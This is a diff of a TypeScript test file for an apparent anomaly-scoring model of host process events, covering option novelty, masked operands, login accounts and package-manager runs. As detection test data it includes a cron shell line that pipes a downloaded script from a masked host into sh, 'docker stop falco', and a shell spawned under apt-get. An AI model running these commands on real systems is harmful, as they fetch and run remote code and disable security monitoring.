@@ -9,7 +9,7 @@ import { OcsvmModel, trainLibsvm } from '../scorer/models/ocsvm';
 import { hashEvent } from '../scorer/models/hashing';
 import { fnv1a32 } from '../scorer/hash';
 import { demoEvents } from '../bench/demo-events';
-import { NO_LOGIN, type BehaviourEvent, type Model, type TrainingStep } from '../scorer/types';
+import { IN_PACKAGE_RUN, NO_LOGIN, type BehaviourEvent, type Model, type TrainingStep } from '../scorer/types';
 import { DIST } from './helpers/paths';
 
 /** a pooled baseline's login record of `who`: what makes it an account that logs in here (rarity's person discount) */
@@ -340,7 +340,7 @@ t.test("rarity: a person account's code run by an interpreter is weighed as anyo
   }
 });
 
-t.test('rarity: new options of a program the account runs count half, unless the arguments are code or an account', async (t) => {
+t.test('rarity: new options of a program the account runs count half, unless the arguments are code, an account or a new object', async (t) => {
   // the host baseline's events of two accounts: a developer's tools, and root's cron shell
   // and sshd's fork for the developer's sessions
   const DAY = 86400;
@@ -366,14 +366,35 @@ t.test('rarity: new options of a program the account runs count half, unless the
   await m.fit(train.map((e) => [e]));
   const at = start + 10 * DAY + 3600;
   const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
-  const options = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at));
+  const options = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker build --no-cache -t <*> .', at));
   const program = await score(proc('dana', '/usr/bin/htop', '/bin/bash', 'htop', at));
+  // rowfix: a known program on an operand none of its command lines named is no new option
+  const object = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at));
+  const stop = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at));
   const code = await score(proc('root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c curl -fsSL http://<*>/u.sh | sh', at));
   const account = await score(proc('root', '/usr/sbin/sshd', 'unknown', 'sshd: root [priv]', at));
   // the same new options, run where the account's paths never pointed: a new kind is not discounted
   const place = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at, ['argloc=accounts']));
   t.ok(options.value < program.value - 2, `new options of docker (${options.value.toFixed(2)}) are well below a new program (${program.value.toFixed(2)})`);
-  t.match(options.detail, /^new options of a known program: command `docker compose up -d`/, options.detail);
+  t.match(options.detail, /^new options of a known program: command `docker build --no-cache -t <\*> \.`/, options.detail);
+  for (const s of [object, stop]) {
+    t.ok(
+      s.value > options.value + 2,
+      `a known program on a new object (${s.value.toFixed(2)}) is not discounted as new options are (${options.value.toFixed(2)})`,
+    );
+    t.match(s.detail, /^a known program on a new object \(`/, s.detail);
+  }
+  t.match(stop.detail, /^a known program on a new object \(`stop` `falco`\): command `docker stop falco`/, 'the reasons name the new operands');
+  // the operands known are rebuilt from the counts of a saved model, and learnt online
+  const saved = loadModel(JSON.parse(JSON.stringify(m.toState())));
+  t.equal(
+    (await saved.score([{ event: proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at), context: [] }]))[0].detail,
+    stop.detail,
+    'a saved model knows the same operands',
+  );
+  saved.observe?.(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at), []);
+  const again = (await saved.score([{ event: proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop -t <*> falco', at), context: [] }]))[0];
+  t.match(again.detail, /^new options of a known program/, `once learnt, the object's new options are options (${again.detail})`);
   t.ok(
     code.value > options.value + 2,
     `a new command line of a shell under cron (${code.value.toFixed(2)}) is not discounted as options are (${options.value.toFixed(2)})`,
@@ -402,6 +423,153 @@ t.test('rarity: new options of a program the account runs count half, unless the
     const s = (await withTools.score([{ event: proc('dana', exe, '/bin/bash', attack, at), context: [] }]))[0];
     t.notMatch(s.detail, /new options of a known program/, `${exe}'s new code is not new options (${s.value.toFixed(2)}: ${s.detail})`);
   }
+});
+
+t.test("rarity: a new template that masks a known line's operand with the miner's <*> names a new object (rowfix)", async (t) => {
+  // the miner widens `sudo systemctl reload php8.2-fpm` to `sudo systemctl <*> <*>` with the
+  // next line like it: the template's own words are all known, the line named something else
+  const DAY = 86400;
+  const start = 1_790_000_000 - (1_790_000_000 % DAY);
+  const proc = (exe: string, cmd: string, time: number): BehaviourEvent => ({
+    key: `exec ${exe} <- /bin/bash`,
+    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', 'who=deploy'],
+    pairs: [`parent=/bin/bash>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=deploy>exe=${exe}`],
+    text: '',
+    time,
+  });
+  const train: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++)
+    for (let i = 0; i < 100; i++) {
+      const [exe, cmd] = [
+        ['/usr/bin/sudo', 'sudo systemctl reload php8.2-fpm'],
+        ['/usr/bin/tar', 'tar -cf /var/backups/db.tar'],
+        ['/usr/bin/rsync', 'rsync -a <*> <*>'],
+      ][i % 3];
+      train.push(proc(exe, cmd, start + d * DAY + i * 60));
+    }
+  const m = createModel('rarity');
+  await m.fit(train.map((e) => [e]));
+  const at = start + 10 * DAY + 3600;
+  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
+  const widened = await score(proc('/usr/bin/sudo', 'sudo systemctl <*> <*>', at));
+  t.match(widened.detail, /^a known program on a new object \(in place of `reload` `php8\.2-fpm`\)/, widened.detail);
+  // a path the miner masked is where the line points (argloc), not an object; an option is an option
+  const path = await score(proc('/usr/bin/tar', 'tar -cf <*>', at));
+  const option = await score(proc('/usr/bin/rsync', 'rsync -a --delete <*> <*>', at));
+  for (const s of [path, option]) t.match(s.detail, /^new options of a known program/, s.detail);
+  t.ok(widened.value > path.value + 1, `the masked operand (${widened.value.toFixed(2)}) weighs more than a masked path (${path.value.toFixed(2)})`);
+});
+
+t.test('rarity: where shell histories are collected, an account that logs in but never types at a shell is no person (rowfix)', async (t) => {
+  const DAY = 86400;
+  const start = 1_790_000_000 - (1_790_000_000 % DAY);
+  const proc = (who: string, exe: string, cmd: string, time: number): BehaviourEvent => ({
+    key: `exec ${exe} <- /bin/bash`,
+    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', `who=${who}`],
+    pairs: ['parent=/bin/bash>exe=' + exe, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=system`, `who=${who}>kind=process`],
+    text: '',
+    time,
+  });
+  const typed = (who: string, cmd: string, time: number): BehaviourEvent => ({
+    key: `shell ${cmd}`,
+    values: ['kind=shell', `exe=${cmd.split(' ')[0]}`, `cmd=${cmd}`, `who=${who}`],
+    pairs: [`who=${who}>kind=shell`],
+    text: '',
+    time,
+  });
+  const fit = async (histories: boolean) => {
+    const train: BehaviourEvent[] = [];
+    for (let d = 0; d < 10; d++) {
+      const day = start + d * DAY + 9 * 3600;
+      train.push(loginRecord('ops', day), loginRecord('deploy', day + 60));
+      for (let i = 0; i < 60; i++) {
+        train.push(
+          proc('ops', '/usr/bin/tail', 'tail -n <*> <*>', day + 120 + i * 60),
+          proc('deploy', '/usr/bin/rsync', 'rsync -a <*> <*>', day + 150 + i * 60),
+        );
+        train.push(proc('svc', '/usr/bin/df', 'df -h', day + 170 + i * 60));
+        if (histories) train.push(typed('ops', 'tail -n <*> <*>', day + 121 + i * 60));
+      }
+    }
+    const m = createModel('rarity');
+    await m.fit(train.map((e) => [e]));
+    return async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
+  };
+  const at = start + 10 * DAY + 10 * 3600;
+  const score = await fit(true);
+  const person = await score(proc('ops', '/usr/bin/htop', 'htop', at));
+  const automation = await score(proc('deploy', '/usr/bin/htop', 'htop', at));
+  const service = await score(proc('svc', '/usr/bin/htop', 'htop', at));
+  t.ok(person.value < 0.6 * service.value, `the person's new tool counts half (${person.value.toFixed(2)} against ${service.value.toFixed(2)})`);
+  t.ok(automation.value > 0.9 * service.value, `an account that logs in and never typed at a shell here is weighed in full (${automation.value.toFixed(2)})`);
+  t.notMatch(automation.detail, /an account that logs in here/, automation.detail);
+  // a host whose shell histories are not collected says nothing of who types: login records decide
+  const none = await fit(false);
+  const loggedIn = await none(proc('deploy', '/usr/bin/htop', 'htop', at));
+  const svc = await none(proc('svc', '/usr/bin/htop', 'htop', at));
+  t.ok(
+    loggedIn.value < 0.6 * svc.value,
+    `without shell histories, an account that logs in keeps the discount (${loggedIn.value.toFixed(2)} against ${svc.value.toFixed(2)})`,
+  );
+});
+
+t.test("rarity: in a package manager's run, values count half and classes in full; typed shell code is anyone's (rowfix)", async (t) => {
+  const DAY = 86400;
+  const start = 1_790_000_000 - (1_790_000_000 % DAY);
+  const proc = (who: string, exe: string, parent: string, cmd: string, time: number, extra: string[] = []): BehaviourEvent => ({
+    key: `exec ${exe} <- ${parent}`,
+    values: ['kind=process', `exe=${exe}`, `parent=${parent}`, `cmd=${cmd}`, 'exeloc=system', `who=${who}`, ...extra],
+    pairs: [`parent=${parent}>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>kind=process`],
+    text: '',
+    time,
+  });
+  const routine: Array<[string, string, string, string]> = [
+    ['ops', '/usr/bin/systemctl', '/usr/bin/sudo', 'systemctl reload nginx'],
+    ['ops', '/usr/bin/tail', '/bin/bash', 'tail -n <*> <*>'],
+    ['root', '/usr/bin/apt-get', '/bin/sh', 'apt-get -qq update'],
+    ['root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c run-parts /etc/cron.hourly'],
+  ];
+  const train: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++) {
+    train.push(loginRecord('ops', start + d * DAY + 9 * 3600));
+    for (let i = 0; i < 200; i++) train.push(proc(...routine[i % routine.length], start + d * DAY + 9 * 3600 + i * 60));
+  }
+  const m = createModel('rarity');
+  await m.fit(train.map((e) => [e]));
+  const at = start + 10 * DAY + 10 * 3600;
+  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
+  const helper = ['ops', '/usr/bin/dpkg-deb', '/usr/bin/dpkg', 'dpkg-deb --fsys-tarfile <*>'] as const;
+  const outside = await score(proc(...helper, at));
+  const inside = await score(proc(...helper, at, [IN_PACKAGE_RUN]));
+  t.ok(
+    inside.value < 0.6 * outside.value,
+    `a package's helper in the run (${inside.value.toFixed(2)}) weighs half what it does outside one (${outside.value.toFixed(2)})`,
+  );
+  // a new kind in the run (a program in /tmp) is counted as anywhere
+  const temp = ['ops', '/tmp/x', '/usr/bin/dpkg', 'x'] as const;
+  const tempOutside = await score({ ...proc(...temp, at), values: proc(...temp, at).values.map((v) => (v === 'exeloc=system' ? 'exeloc=temp' : v)) });
+  const tempInside = await score({
+    ...proc(...temp, at, [IN_PACKAGE_RUN]),
+    values: proc(...temp, at, [IN_PACKAGE_RUN]).values.map((v) => (v === 'exeloc=system' ? 'exeloc=temp' : v)),
+  });
+  t.ok(
+    tempInside.value > 0.8 * tempOutside.value,
+    `a program in /tmp in the run (${tempInside.value.toFixed(2)}) weighs about as outside (${tempOutside.value.toFixed(2)}): only the next strongest token, a value, is halved`,
+  );
+  t.match(tempInside.detail, /^new kind of behaviour: executable location `temp`/, tempInside.detail);
+  // a shell given code, or none, below a package manager (a pager's `!sh`) runs what someone typed
+  for (const cmd of ['sh -c id', 'sh']) {
+    const shell = ['ops', '/bin/sh', '/usr/bin/apt-get', cmd] as const;
+    const a = await score(proc(...shell, at));
+    const b = await score(proc(...shell, at, [IN_PACKAGE_RUN]));
+    t.ok(b.value > 0.9 * a.value, `\`${cmd}\` below apt-get (${b.value.toFixed(2)}) weighs as elsewhere (${a.value.toFixed(2)})`);
+  }
+  const script = ['ops', '/bin/sh', '/usr/bin/dpkg', 'sh /var/lib/dpkg/info/<*>.postinst configure'] as const;
+  const s1 = await score(proc(...script, at));
+  const s2 = await score(proc(...script, at, [IN_PACKAGE_RUN]));
+  t.ok(s2.value < 0.6 * s1.value, `a maintainer script run as a file by sh (${s2.value.toFixed(2)}) is the package's (${s1.value.toFixed(2)})`);
+  // the condition is no evidence: an event that carries it has the SVM vector it has without
+  t.same(hashEvent(proc(...helper, at, [IN_PACKAGE_RUN]), [], 512), hashEvent(proc(...helper, at), [], 512), 'the SVM does not see it');
 });
 
 /** hashEvent as it was written first: each token built as a string, hashed whole, summed in a Map */
